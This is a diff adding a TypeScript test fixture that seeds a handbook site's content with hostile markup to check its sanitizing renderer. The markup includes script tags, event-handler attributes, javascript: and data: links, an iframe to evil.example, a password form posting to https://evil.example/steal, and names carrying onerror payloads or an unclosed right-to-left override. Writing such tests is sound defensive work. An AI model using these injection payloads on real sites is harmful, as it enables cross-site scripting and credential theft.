@@ -1,0 +1,141 @@
+/**
+ * The hostile handbook of the render tests: the valid fixture, with bodies and fields
+ * written the way an attacker (or a careless paste) would write them. Each hostile
+ * piece is paired with something harmless that must survive, so "remove everything"
+ * would not pass either.
+ */
+import { writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { diagramKey } from '../../src/lib/diagrams/cache.ts';
+import { copyHandbook, replaceOnce, validFixture } from '../helpers/fixtures.ts';
+
+/** What a page, feed or email must not carry from the bodies below. */
+export const HOSTILE_BODY = [
+  'Before the attack. <script>window.__pwned = "inline script"</script>',
+  '',
+  '<script>window.__pwned = "block script"</script>',
+  '',
+  '<img src="x.png" onerror="window.__pwned = \'onerror\'" alt="a picture">',
+  '',
+  '<iframe src="https://evil.example/frame"></iframe>',
+  '',
+  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
+  '',
+  '<style>body { display: none }</style>',
+  '',
+  '<span onclick="window.__pwned = \'onclick\'" onmouseover="steal()">Hover me</span>',
+  '',
+  '[Click me](javascript:window.__pwned=1) and <a href="JaVaScRiPt:window.__pwned=2">shouting</a> and <a href="  javascript:window.__pwned=3">spaced</a> and <a href="data:text/html,<script>alert(1)</script>">data</a>.',
+  '',
+  '<details><summary>Still here</summary>',
+  '',
+  'Kept: <kbd>Ctrl</kbd>, [an apostrophe link](https://example.com/it\'s-fine), [mail](mailto:team@example.com) and [a relative link](../../teams/platform/).',
+  '',
+  '</details>',
+  '',
+  'Comparison operators: a < b && c > d in the excerpt.',
+].join('\n');
+
+/** Diagrams of ADR 0002, whose cache entries the setup damages before the build. */
+export const CUT_SHORT_DIAGRAM = 'flowchart LR\n  accTitle: Cut short in the cache\n  A[Request] --> B[Cache]';
+export const EMPTY_DIAGRAM = 'flowchart LR\n  accTitle: Empty in the cache\n  C[Writer] --> D[Queue]';
+
+const ADR_BODY = [
+  '## Context',
+  'Time series.',
+  '',
+  HOSTILE_BODY,
+  '',
+  '## Decision',
+  'Timescale.[^why]',
+  '',
+  '```mermaid',
+  CUT_SHORT_DIAGRAM,
+  '```',
+  '',
+  '```mermaid',
+  EMPTY_DIAGRAM,
+  '```',
+  '',
+  '```ts',
+  'const answer: number = 42;',
+  '```',
+  '',
+  '| Left | Right |',
+  '|:-----|------:|',
+  '| a    |     1 |',
+  '',
+  '## Consequences',
+  'One more extension to upgrade.',
+  '',
+  '[^why]: Because of the aggregates.',
+  '',
+].join('\n');
+
+const MDX_TALK = `---
+title: Hostile <b>MDX</b>
+date: 2026-11-05T17:00:00Z
+speakers: [alan-turing]
+team: platform
+durationMinutes: 30
+---
+An MDX talk with HTML written as JSX.
+
+<div onClick="window.__pwned = 'mdx onclick'" className="x">A div with a handler</div>
+
+<iframe src="https://evil.example/mdx-frame" />
+
+<a href="javascript:window.__pwned = 'mdx link'">an MDX link</a> and <a href="https://example.com/mdx">a safe one</a>
+
+<script>window.__pwned = 'mdx script'</script>
+
+\`\`\`mermaid
+flowchart TD
+  accTitle: MDX diagram
+  X[Start] --> Y[End]
+\`\`\`
+`;
+
+/** A title with a 120-character word: long enough to widen a phone's page, short enough for any sane length limit. */
+export const LONG_WORD = 'Carts'.padEnd(120, 'x');
+/** A name with a right-to-left override that is never closed. */
+export const RLO_NAME = 'Ada \u202ELovelace';
+export const MARKUP_NAME = 'Alan <img src=x onerror=alert(1)> Turing';
+export const MARKUP_SHIPPED = 'Pooler <img src=x onerror=alert(1)> in staging';
+
+/** About 80 KB of an update: four times what a feed item may carry. */
+export const LONG_UPDATE_PARAGRAPHS = 800;
+const LONG_UPDATE = `---
+team: platform
+date: 2026-11-13
+shipped:
+  - A long retrospective
+---
+${Array.from({ length: LONG_UPDATE_PARAGRAPHS }, (_, i) => `Paragraph ${i + 1} of the retrospective, with enough words to weigh about a hundred bytes.`).join('\n\n')}
+`;
+
+/** Copies the valid fixture and makes it hostile; returns the folder holding `content/`. */
+export async function hostileHandbook(): Promise<string> {
+  const root = await copyHandbook(validFixture, {
+    'content/teams/checkout.md': (text) => `${text}\n${HOSTILE_BODY}\n`,
+    'content/adrs/0002-use-postgres-with-timescale.md': (text) => text.slice(0, text.indexOf('## Context')) + ADR_BODY,
+    'content/adrs/0003-cache-carts.md': replaceOnce('title: Cache carts in Redis', `title: ${LONG_WORD}`),
+    'content/talks/2026-11-06-timescale-in-production.md': replaceOnce('What we learned.', `What we learned.\n\n${HOSTILE_BODY}`),
+    'content/updates/2026-11-20-platform.md': (text) => `${text.replace('  - Connection pooler in staging', `  - '${MARKUP_SHIPPED}'`)}\n${HOSTILE_BODY}\n`,
+    'content/people/ada-lovelace.yaml': replaceOnce('name: Ada Lovelace', `name: "${RLO_NAME}"`),
+    'content/people/alan-turing.yaml': replaceOnce('name: Alan Turing', `name: '${MARKUP_NAME}'`),
+  });
+  await writeFile(path.join(root, 'content/talks/2026-11-05-hostile-mdx.mdx'), MDX_TALK);
+  await writeFile(path.join(root, 'content/updates/2026-11-13-platform.md'), LONG_UPDATE);
+  return root;
+}
+
+/** A diagram cache holding a cut-short SVG for one diagram and an empty file for another. */
+export async function damagedCache(cacheDir: string): Promise<{ cutShort: string; empty: string }> {
+  const cutShort = path.join(cacheDir, `${diagramKey(CUT_SHORT_DIAGRAM, 'light')}.svg`);
+  const empty = path.join(cacheDir, `${diagramKey(EMPTY_DIAGRAM, 'dark')}.svg`);
+  // Mermaid names a diagram's root after its key (m<key>): this one is right, only cut short.
+  await writeFile(cutShort, `<svg id="m${diagramKey(CUT_SHORT_DIAGRAM, 'light')}" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40"><g><rect width="10" height="`);
+  await writeFile(empty, '');
+  return { cutShort, empty };
+}
